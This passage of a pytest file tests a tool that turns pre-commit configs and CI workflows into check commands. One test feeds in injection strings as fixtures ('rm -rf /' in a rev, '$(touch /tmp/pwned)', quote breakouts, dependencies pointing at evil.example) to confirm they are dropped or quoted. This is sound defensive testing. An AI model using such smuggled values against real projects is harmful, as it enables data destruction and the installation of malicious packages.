        {".github/workflows/ci.yml": ACTION_JOB, "pyproject.toml": PYPROJECT, "a.py": ""},
    )
    raw, stderr = run_init(root)
    assert hook_checks(raw) == {}
    assert "pre-commit: .pre-commit-config.yaml does not exist; no hook is a check" in stderr


@pytest.mark.parametrize(
    "command", ["pre-commit run -a -c ../evil.yaml", "cd .. && pre-commit run -c evil.yaml"]
)
def test_config_outside_the_project_is_not_read(tmp_path: Path, command: str) -> None:
    (tmp_path / "evil.yaml").write_text(TERMCOLOR)
    workflow = LINT_JOB.format(command=command)
    root = project(tmp_path, "repos: []\n", workflow)
    raw, stderr = run_init(root)
    assert hook_checks(raw) == {}
    assert "pre-commit: ../evil.yaml is outside the project" in stderr


def test_alias_bomb_is_bounded(tmp_path: Path) -> None:
    """Aliases make a 1 KiB file name millions of hooks or arguments: read in bounded time,
    with notes, never expanded into text."""
    lines = ['h0: &h0 {id: ruff, args: ["--select=E"]}']
    for n in range(1, 9):
        lines.append(f"h{n}: &h{n} [{', '.join([f'*h{n - 1}'] * 9)}]")
    lines.append("a0: &a0 [x, x, x, x, x, x, x, x, x]")
    for n in range(1, 9):
        lines.append(f"a{n}: &a{n} [{', '.join([f'*a{n - 1}'] * 9)}]")
    lines += [
        "repos:",
        "  - *h8",
        "  - repo: https://github.com/astral-sh/ruff-pre-commit",
        "    rev: v0.6.9",
        "    hooks: *h8",
        "  - repo: https://github.com/astral-sh/ruff-pre-commit",
        "    rev: v0.6.9",
        f"    hooks: [{{id: ruff-format, args: *a8}}, {', '.join(['*h0'] * 250)}]",
    ]
    root = project(tmp_path, "\n".join(lines) + "\n")
    start = time.monotonic()
    raw, stderr = run_init(root)
    assert time.monotonic() - start < 20
    # The same hook (aliased) is the same check, once.
    assert checks(raw) == {"pre-commit.ruff": "ruff check --no-fix --force-exclude --select=E ."}
    assert "dropped pre-commit hook ruff-format: its args are not a list of plain strings" in stderr
    assert "dropped .pre-commit-config.yaml hooks: more than 200; the rest are not read" in stderr
    assert "dropped pre-commit repo: a list has no hooks list" in stderr
    assert (
        "dropped pre-commit repo https://github.com/astral-sh/ruff-pre-commit: a hook "
        "without an id" in stderr
    )


def test_hostile_values_never_reach_a_command_unquoted(tmp_path: Path) -> None:
    config = """\
repos:
  - repo: https://github.com/astral-sh/ruff-pre-commit
    rev: "1.0; rm -rf /"
    hooks:
      - id: ruff
        args: ["--config=x'; touch /tmp/pwned; '", "$(touch /tmp/pwned)"]
  - repo: https://github.com/pycqa/flake8
    rev: 1c0ffee5a7d1e8d9cb4e2dd3e1a2b3c4d5e6f7a8
    hooks:
      - id: flake8
        additional_dependencies:
          - "flake8-bugbear; rm -rf /"
          - "--index-url=https://evil.example/simple"
          - "evil @ https://evil.example/evil.tar.gz"
          - "flake8-docstrings>=1.7"
  - repo: https://github.com/pycqa/isort
    rev: 1.10
    hooks: [{id: isort}]
  - repo: local
    hooks:
      - id: "ev\\u001b[31mil"
        name: x
        entry: "printf '%s\\n' ok"
        language: system
        files: "'; rm -rf / #"
        args: ["line\\nbreak"]
"""
    root = project(tmp_path, config)
    raw, stderr = run_init(root)
    found = checks(raw)
    assert list(found) == ["pre-commit.ruff", "pre-commit.flake8", "pre-commit.isort"]
    assert shlex.split(found["pre-commit.ruff"]) == [
        "ruff",
        "check",
        "--no-fix",
        "--force-exclude",
        "--config=x'; touch /tmp/pwned; '",
        "$(touch /tmp/pwned)",
        ".",
    ]
    # Not versions: the tools install unpinned, and init says so.
    assert install(raw)[-4:] == ["ruff", "flake8", "flake8-docstrings>=1.7", "isort"]
    assert (
        "dropped pin of ruff: rev 1.0; rm -rf / of https://github.com/astral-sh/ruff-pre-commit "
        "is not a version; ruff is installed unpinned" in stderr
    )
    assert "dropped pin of flake8: rev 1c0ffee5a7d1e8d9cb4e2dd3e1a2b3c4d5e6f7a8" in stderr
    assert (
        "dropped pin of isort: rev 1.1 (not a string) of https://github.com/pycqa/isort" in stderr
    )
    for dep in ("flake8-bugbear; rm -rf /", "--index-url=https://evil.example/simple", "evil @ "):
        assert f"dropped pre-commit hook flake8 dependency {dep}" in stderr
    assert "dropped pre-commit hook ev?[31mil: its args are not a list of plain strings" in stderr
    assert "\x1b" not in stderr
    setup = "\n".join(raw["snapshot"]["setup"])
    assert "rm -rf" not in setup and "evil" not in setup


def test_pre_commit_lines_with_nothing_to_run(tmp_path: Path) -> None:
    """`pre-commit install` is not a run; `run HOOK` naming no hook of the file is a note."""
    workflow = """\
on: [push]
jobs:
  lint:
    runs-on: ubuntu-latest
    steps:
      - run: pre-commit install
      - run: pre-commit run no-such-hook --all-files
"""
    root = project(tmp_path, TERMCOLOR, workflow)
    raw, stderr = run_init(root)
    assert hook_checks(raw) == {}
    assert "installs git hooks (not a check)" in stderr
    assert "no hook no-such-hook in .pre-commit-config.yaml" in stderr


# ---------------------------------------------------------------------------
# the generated commands, for real


RUFF_CONFIG = """\
repos:
  - repo: https://github.com/astral-sh/ruff-pre-commit
    rev: v0.6.9
    hooks:
      - id: ruff
        args: [--fix]
      - id: ruff-format
  - repo: https://github.com/astral-sh/ruff-pre-commit
    rev: v0.6.9
    hooks:
      - id: ruff
        alias: ruff-src
        files: ^src/
"""


@pytest.mark.slow
def test_generated_ruff_checks_fail_without_touching_files(tmp_path: Path) -> None:
    """The checks init writes for ruff's hooks (`--fix` in the config) report the unused import
    and the formatting, exit non-zero, and leave every file as it was."""
    bin_dir = Path(sys.executable).parent
    if not (bin_dir / "ruff").exists():
        pytest.skip("ruff is not installed next to this Python")
    bad = "import os\nx = {  'a':1 }\n"
    root = project(tmp_path, RUFF_CONFIG, **{"src/demo/bad.py": bad, "other/bad.py": bad})
    raw, _ = run_init(root)
    found = checks(raw)
    assert set(found) == {"pre-commit.ruff", "pre-commit.ruff-format", "pre-commit.ruff-2"}
    env = {**os.environ, "PATH": f"{bin_dir}{os.pathsep}{os.environ['PATH']}"}
    before = {p: p.read_bytes() for p in root.rglob("*.py")}
    outputs = {}
    for name, command in found.items():
        proc = subprocess.run(
            ["sh", "-c", command], cwd=root, env=env, capture_output=True, text=True, check=False
        )
        assert proc.returncode != 0, f"{name}: {proc.stdout}{proc.stderr}"
        outputs[name] = proc.stdout + proc.stderr
    assert {p: p.read_bytes() for p in root.rglob("*.py")} == before
    assert "F401" in outputs["pre-commit.ruff"] and "other/bad.py" in outputs["pre-commit.ruff"]
    assert "2 files would be reformatted" in outputs["pre-commit.ruff-format"]
    assert "src/demo/bad.py" in outputs["pre-commit.ruff-2"]
    assert "other/bad.py" not in outputs["pre-commit.ruff-2"]


END_TO_END = """\
repos:
  - repo: https://github.com/astral-sh/ruff-pre-commit
    rev: v0.6.9
    hooks:
      - id: ruff
        args: [--fix]
      - id: ruff-format
  - repo: https://github.com/psf/black-pre-commit-mirror
    rev: 24.8.0
    hooks:
      - id: black
  - repo: https://github.com/pycqa/isort
    rev: 5.13.2
    hooks:
      - id: isort
  - repo: https://github.com/pre-commit/pre-commit-hooks
    rev: v4.6.0
    hooks:
      - id: check-yaml
      - id: debug-statements
  - repo: local
    hooks:
      - id: no-print
        name: no print()
        entry: '\\bprint\\('
        language: pygrep
        types: [python]
"""


@pytest.mark.slow
def test_generated_setup_installs_the_pins_and_every_check_fails_on_bad_code(
    tmp_path: Path,
) -> None:
    """The snapshot setup init writes installs the pinned hook tools (from PyPI), and each
    generated check, run in the project, fails on the file that breaks its rule and leaves
    every file as it was."""
    bad = "import sys\nimport os\nx = {  'a':1 }\nbreakpoint()\nprint(x)\n"
    root = project(tmp_path, END_TO_END, **{"src/demo/bad.py": bad, "conf.yaml": "a: [\n"})
    raw, _ = run_init(root)
    for line in raw["snapshot"]["setup"]:
        subprocess.run(["sh", "-c", line], cwd=root, check=True, capture_output=True, timeout=600)
    found = checks(raw)
    assert list(found) == [
        "pre-commit.ruff",
        "pre-commit.ruff-format",
        "pre-commit.black",
        "pre-commit.isort",
        "pre-commit.check-yaml",
        "pre-commit.debug-statements",
        "pre-commit.no-print",
    ]
    venv = root / ".venv" / "bin"
    version = subprocess.run(
        [str(venv / "black"), "--version"], capture_output=True, text=True, check=True
    )
    assert version.stdout.startswith("black, 24.8.0")
    env = {**os.environ, "PATH": f"{venv}{os.pathsep}{os.environ['PATH']}"}
    sources = [p for p in root.rglob("*") if p.is_file() and ".venv" not in p.parts]
    before = {p: p.read_bytes() for p in sources if ".git" not in p.parts}
    for name, command in found.items():
        proc = subprocess.run(
            ["sh", "-c", command], cwd=root, env=env, capture_output=True, text=True, timeout=300
        )
        output = proc.stdout + proc.stderr
        assert proc.returncode != 0, f"{name} passed: {output}"
        culprit = "conf.yaml" if name == "pre-commit.check-yaml" else "bad.py"
        assert culprit in output, f"{name}: {output}"
    assert {p: p.read_bytes() for p in before} == before
